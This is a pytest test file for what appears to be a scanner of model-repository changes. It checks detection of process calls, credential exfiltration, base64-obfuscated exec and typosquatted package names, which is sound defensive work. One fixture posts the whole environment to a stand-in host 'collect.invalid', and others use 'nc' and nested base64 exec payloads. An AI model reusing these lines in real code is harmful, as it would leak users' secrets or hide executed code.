"""Changed code, configuration and dependencies: labelled changes, and how a finding is made."""

from __future__ import annotations

import base64
import json
from collections import Counter
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.content.changes import facts, judge
from tests.content.labelled import alarms, missed
from tests.content.labelled_code import BENIGN, CODE, HOSTILE, MODELING
from tokenaudit.content.dependencies import WELL_KNOWN, look_alike
from tokenaudit.content.python_indicators import NotPythonError, python_indicators
from tokenaudit.content.structured_text import UnreadableTextError, json_entries, yaml_entries
from tokenaudit.model import Severity
from tokenaudit.work_budget import WorkLimitError


def test_every_hostile_change_is_found_by_its_rule() -> None:
    assert len(HOSTILE) >= 80
    assert missed(HOSTILE) == []


def test_benign_changes_have_no_finding_and_nothing_is_skipped() -> None:
    assert len(BENIGN) >= 80
    assert alarms(BENIGN) == []


def test_labels_have_different_names_per_rule() -> None:
    names = Counter((one.rule, one.name) for one in HOSTILE)
    assert max(names.values()) == 1


def test_hostile_code_that_was_there_before_is_no_finding() -> None:
    for sample in HOSTILE:
        if sample.path == CODE and sample.before is not None and not sample.files and isinstance(sample.after, str):
            assert judge(CODE, f"# edited\n{sample.after}".encode(), sample.after.encode()).findings == (), sample.name


def test_a_new_file_is_new_as_a_whole() -> None:
    found = judge("x.py", b"import os\nos.system('true')\n").findings
    assert [one.rule for one in found] == ["content-python-process"]


def test_credentials_with_a_connection_are_critical() -> None:
    code = "import os, requests\ndef f():\n    requests.post('https://collect.invalid', json=dict(os.environ))\n"
    found = judge(CODE, (MODELING + code).encode(), MODELING.encode()).findings
    assert {one.rule: one.severity for one in found} == {
        "content-python-credentials": Severity.CRITICAL,
        "content-python-network": Severity.CRITICAL,
    }
    assert all("collect.invalid" in one.message for one in found)


def test_a_process_at_import_time_is_worse_than_one_in_a_function() -> None:
    inside = judge(CODE, b"import os\ndef f():\n    os.system('true')\n").findings
    called = judge(CODE, b"import os\ndef f():\n    os.system('true')\nf()\n").findings
    main = judge(CODE, b"import os\nif __name__ == '__main__':\n    os.system('true')\n").findings
    assert [one.severity for one in inside] == [Severity.HIGH]
    assert [one.severity for one in called] == [Severity.CRITICAL]
    assert [one.severity for one in main] == [Severity.HIGH]


def test_another_argument_of_a_call_is_new() -> None:
    before = b"import subprocess\ndef f():\n    subprocess.run(['ffmpeg'])\n"
    after = before.replace(b"ffmpeg", b"nc")
    assert [one.severity for one in judge(CODE, after, before).findings] == [Severity.MEDIUM]


def test_a_constant_behind_an_argument_is_new() -> None:
    before = b"import os\nCOMMAND = 'true'\ndef f():\n    os.system(COMMAND)\n"
    assert judge(CODE, before.replace(b"'true'", b"'false'"), before).findings != ()


def test_findings_say_whether_the_file_runs_on_load() -> None:
    code = b"import os\nos.system('true')\n"
    config = {"config.json": json.dumps({"auto_map": {"AutoModel": "modeling_acme.A"}}).encode()}
    loaded = judge(CODE, code, repository=facts({}, {**config, CODE: code})).findings
    lying = judge(CODE, code, repository=facts({}, {CODE: code})).findings
    assert "runs on load with trust_remote_code (config.json)" in loaded[0].message
    assert "nothing loads this file" in lying[0].message


@pytest.mark.parametrize(
    "code",
    [b"def f(:\n", b"import os\x00\n", b"print 'x'", b"(" * 5_000, b"x = " + b"-" * 50_000 + b"1", b"\xff\xfe\xfa"],
    ids=["syntax", "null byte", "Python 2", "brackets", "signs", "bytes"],
)  # fmt: skip
def test_code_that_does_not_parse_is_not_clean(code: bytes) -> None:
    judged = judge(CODE, code, b"x = 1\n")
    assert judged.risk == "unknown"
    assert judged.skipped


def test_code_that_did_not_parse_before_is_new() -> None:
    assert judge(CODE, b"import os\nos.system('true')\n", b"def f(:\n").findings != ()


def test_code_in_another_encoding_is_parsed() -> None:
    code = "# -*- coding: latin-1 -*-\nimport os\nx = '\xe9'\nos.system('true')\n".encode("latin-1")
    assert [one.line for one in judge(CODE, code).findings] == [4]


def test_code_that_is_executed_from_texts_is_followed() -> None:
    code = "import os\nos.system('true')"
    for _ in range(3):
        code = f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode())!r}))"
    names = {one.names for one in judge(CODE, code.encode()).findings}
    assert ("os.system",) in names


def test_a_large_or_repetitive_module_ends() -> None:
    for code in (
        "\n".join(f"x{n} = x{n - 1} + x{n - 1}" for n in range(1, 2_000)),
        "x = '%1000000000d' % 1\ny = '{:1000000000}'.format(1)\nz = 'a' * 10 ** 9\nw = 'ab'.replace('', 'x' * 4096)",
        "f = " + "+".join(["'a'"] * 3_000),
        "def f({0}):\n    return {0}\n".format(",".join(f"a{n}" for n in range(200))) + "f(x, y)\n" * 500,
        "\n".join(f"def f{n}(m):\n    return f{(n * 7) % 500}(m)" for n in range(500)),
    ):
        with suppress(NotPythonError, WorkLimitError):
            assert python_indicators(code) == []


_FRAGMENTS = st.sampled_from(
    ["import os", "x = os", "x.system('true')", "getattr(x, 'a' + y)", "y = x", "def f(x): return y", "f(f)", "exec(y)",
     "y = [x, y]", "y[0]('a')", "x = y = f", "(lambda q: q)(x)", "class A:\n    x = y", "A().x", "z: int = f'{y}{x}'",
     "for x in y: pass", "x = globals()[y]", "y = vars(x)", "del x", "with x as y: pass", "from os import *"]
)  # fmt: skip


@settings(max_examples=60, deadline=None)
@given(st.lists(_FRAGMENTS, max_size=12))
def test_any_mixture_of_statements_is_read(fragments: list[str]) -> None:
    found = python_indicators("\n".join(fragments))
    assert all(one.line > 0 and one.key for one in found)


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("config.json", b'{"a": '),
        ("config.json", b"[" * 100_000),
        ("config.json", b'{"a":' * 3_000 + b"1" + b"}" * 3_000),
        ("config.json", b"\xff\xfe\x00"),
        ("config.yaml", b"a: &a [1]\nb: *a\n"),
        ("config.yaml", b"a: [\n"),
        ("config.yaml", b"[" * 5_000),
        ("pyproject.toml", b"[[["),
        ("demo.ipynb", b"{}"),
        ("demo.ipynb", b'{"cells": [{"cell_type": "code", "source": "def f(:"}]}'),
    ],
)
def test_configuration_that_can_not_be_read_is_not_clean(path: str, data: bytes) -> None:
    judged = judge(path, data)
    assert judged.risk == "unknown"
    assert judged.skipped


def test_huge_numbers_and_all_duplicates_are_read() -> None:
    entries = json_entries('{"a": 1' + "0" * 10_000 + ', "b": 1e999, "b": [true, null, NaN], "": {"b": {}}}')
    assert [one.value for one in entries][1:] == ["1e999", "true", "null", "nan"]
    twice = yaml_entries("a: 1\na: 2\n? [x]\n: y\n")
    assert [one.value for one in twice] == ["1", "2", "x", "y"]


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_entries_or_unreadable(text: str) -> None:
    for read in (json_entries, yaml_entries):
        with suppress(UnreadableTextError):
            assert all(isinstance(one.value, str) for one in read(text))


def test_well_known_packages_are_not_look_alikes_of_each_other() -> None:
    assert [name for name in WELL_KNOWN if look_alike(name)] == []


@pytest.mark.parametrize(
    "name", ["transfromers", "numpyy", "requets", "t0rch", "huggingface-hubb", "pandass", "scikit-lear", "tokeniizers"]
)
def test_look_alikes_are_recognized(name: str) -> None:
    assert look_alike(name) in WELL_KNOWN
